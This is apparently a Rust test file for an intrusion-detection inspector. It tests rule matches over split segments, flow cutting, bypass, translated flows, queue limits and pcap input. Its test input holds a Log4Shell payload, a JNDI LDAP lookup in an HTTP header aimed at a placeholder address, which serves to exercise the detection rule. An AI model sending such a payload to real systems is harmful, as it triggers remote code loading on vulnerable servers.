//! Live frames: findings, cuts, bypass, translated addresses, and what happens when the queue is full.
#![allow(clippy::unwrap_used, reason = "a test that cannot go on says so by a panic")]

#[path = "../../../rules/signatures/tests/support/mod.rs"]
mod support;

use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use abi::FlowKey;
use inspect::{BYPASS_BYTES, CopiedFrame, Finding, LiveInspector, QUEUE_FRAMES, Sink, inspect_pcap, start};
use signatures::{Classification, Limits, RuleSet, Variables};
use support::{CLIENT, Conversation, SERVER};

const REQUEST: &[u8] = b"GET / HTTP/1.1\r\nX: ${jndi:ldap://198.51.100.7/a}\r\n\r\n";

fn rules() -> Arc<RuleSet> {
    let text = std::fs::read_to_string(support::cases().join("log4shell.rules")).unwrap();
    let (rules, refused) =
        RuleSet::load(&text, "log4shell.rules", &Variables::usual(), &Classification::default());
    assert_eq!(refused, []);
    Arc::new(rules)
}

fn key(source: (IpAddr, u16), destination: (IpAddr, u16), zone: u8) -> FlowKey {
    let address = |ip: IpAddr| match ip {
        IpAddr::V4(v4) => abi::mapped(v4.octets()),
        IpAddr::V6(v6) => v6.octets(),
    };
    FlowKey {
        source: address(source.0),
        destination: address(destination.0),
        source_port: source.1.to_be_bytes(),
        destination_port: destination.1.to_be_bytes(),
        protocol: 6,
        zone,
        reserved: [0; 2],
    }
}

fn copied(n: u64, flow: FlowKey, reply: bool, frame: &[u8]) -> CopiedFrame {
    CopiedFrame {
        at: n * 1_000_000,
        flow,
        reply,
        zone_from: 4,
        zone_to: 5,
        length: u16::try_from(frame.len()).unwrap(),
        frame: frame.into(),
    }
}

fn inspector() -> LiveInspector {
    LiveInspector::new(rules(), Limits::live(), 1_700_000_000_000_000)
}

#[test]
fn the_frame_that_completes_the_match_cuts_the_flow_and_later_ones_too() {
    let mut talk = Conversation::open(CLIENT, SERVER, [1, 2]);
    talk.client(&REQUEST[..30]).client(&REQUEST[30..]).client(b"more").server(b"answer");
    let (there, back) = (key(CLIENT, SERVER, 4), key(SERVER, CLIENT, 5));
    let mut live = inspector();
    let mut cuts = Vec::new();
    for (n, frame) in (0..).zip(&talk.frames) {
        let reply = matches!(n, 1 | 6);
        // The two directions of a routed flow come in with different tags.
        let frame = support::tagged(frame, if reply { 200 } else { 400 });
        let flow = if reply { back } else { there };
        let outcome = live.frame(&copied(n, flow, reply, &frame));
        assert_eq!(outcome.findings.len(), usize::from(n == 4), "{n}");
        for finding in &outcome.findings {
            assert_eq!((finding.flow, finding.zone_from, finding.zone_to, finding.cut), (there, 4, 5, true));
            assert_eq!(finding.alert.at.to_string(), "2023-11-14T22:13:20.004000Z");
            assert_eq!((finding.alert.rule.sid, finding.alert.vlan), (9_000_001, 400));
        }
        cuts.push(outcome.cut);
        assert_eq!(outcome.bypass, None);
    }
    assert_eq!(cuts, [None, None, None, None, Some(there), Some(there), Some(back)]);
}

#[test]
fn one_side_of_a_translated_flow_is_enough() {
    // The answers come to the router's own address, so the two sides look like two flows.
    let router: (IpAddr, u16) = ([203, 0, 113, 5].into(), 51_000);
    let mut talk = Conversation::open(CLIENT, SERVER, [1, 2]);
    talk.client(REQUEST);
    let back = support::tcp(SERVER, router, 2, 2, support::SYN | support::ACK, b"");
    let mut live = inspector();
    let there = key(CLIENT, SERVER, 4);
    assert!(live.frame(&copied(0, there, false, &talk.frames[0])).findings.is_empty());
    assert!(live.frame(&copied(1, key(SERVER, router, 3), true, &back)).findings.is_empty());
    assert!(live.frame(&copied(2, there, false, &talk.frames[2])).findings.is_empty());
    assert_eq!(live.frame(&copied(3, there, false, &talk.frames[3])).cut, Some(there));
}

#[test]
fn a_quiet_flow_is_bypassed_after_its_budget_unless_something_is_pending() {
    for (filler, pending) in [(b'x', false), (b'$', true)] {
        let mut talk = Conversation::open(CLIENT, SERVER, [1, 2]);
        let chunk = [filler; 1024];
        for _ in 0..BYPASS_BYTES / 1024 {
            talk.client(&chunk);
        }
        if pending {
            // The content of the rule is there, the rest of the rule is not yet.
            talk.client(b"${jndi:");
        }
        let flow = key(CLIENT, SERVER, 4);
        let mut live = inspector();
        let mut last = None;
        for (n, frame) in (0..).zip(&talk.frames) {
            last = live.frame(&copied(n, flow, false, frame)).bypass;
        }
        assert_eq!(last, if pending { None } else { Some(flow) });
    }
}

#[derive(Clone, Default)]
struct Seen(Arc<Mutex<Told>>);

#[derive(Default)]
struct Told {
    sids: Vec<u32>,
    cut: Vec<FlowKey>,
    lost: u64,
}

impl Sink for Seen {
    fn finding(&mut self, finding: &Finding) {
        self.0.lock().unwrap().sids.push(finding.alert.rule.sid);
    }
    fn cut(&mut self, flow: &FlowKey) {
        self.0.lock().unwrap().cut.push(*flow);
    }
    fn bypass(&mut self, _: &FlowKey) {}
    fn lost(&mut self, frames: u64) {
        self.0.lock().unwrap().lost += frames;
    }
}

#[tokio::test]
async fn the_queue_is_bounded_counts_what_it_loses_and_takes_new_rules() {
    let seen = Seen::default();
    let empty = LiveInspector::new(Arc::new(RuleSet::empty()), Limits::live(), 0);
    let (feed, worker) = start(empty, seen.clone());
    assert!(feed.set_rules(rules()).await);
    let mut talk = Conversation::open(CLIENT, SERVER, [1, 2]);
    talk.client(REQUEST);
    let flow = key(CLIENT, SERVER, 4);
    for (n, frame) in (0..).zip(&talk.frames) {
        assert!(feed.offer(copied(n, flow, n == 1, frame)));
    }
    // Nobody judges yet: the queue fills, and does not grow.
    let other = copied(9, key(SERVER, CLIENT, 5), false, &talk.frames[0]);
    let kept = (0..2 * QUEUE_FRAMES).filter(|_| feed.offer(other.clone())).count();
    assert_eq!(kept, QUEUE_FRAMES - 5);
    drop(feed);
    worker.run().await;
    let told = seen.0.lock().unwrap();
    assert_eq!((told.sids.as_slice(), told.cut[0]), (&[9_000_001][..], flow));
    assert_eq!(told.lost, u64::try_from(2 * QUEUE_FRAMES - kept).unwrap());
}

#[tokio::test]
async fn the_bytes_of_the_queue_are_bounded_too() {
    let seen = Seen::default();
    let (feed, worker) = start(inspector(), seen.clone());
    let large = copied(0, key(CLIENT, SERVER, 4), false, &[0; 2048]);
    let kept = (0..1100).filter(|_| feed.offer(large.clone())).count();
    assert_eq!(kept, inspect::MAX_QUEUED_BYTES / 2048);
    drop(feed);
    worker.run().await;
    assert_eq!(seen.0.lock().unwrap().lost, 1100 - u64::try_from(kept).unwrap());
}

#[test]
fn a_capture_from_disk_and_one_that_is_not_there() {
    let mut talk = Conversation::open(CLIENT, SERVER, [1, 2]);
    talk.client(REQUEST);
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("exploit.pcap");
    std::fs::write(&path, support::pcap(&talk.frames)).unwrap();
    let mut sids = Vec::new();
    let report =
        inspect_pcap(&path, rules(), Limits::default(), &mut |alert| sids.push(alert.alert.signature_id))
            .unwrap();
    assert_eq!((sids.as_slice(), report.capture.packets), (&[9_000_001][..], 4));
    let missing = folder.path().join("none.pcap");
    let error = inspect_pcap(&missing, rules(), Limits::default(), &mut |_| {}).unwrap_err();
    assert!(error.to_string().contains("none.pcap: No such file"), "{error}");
}
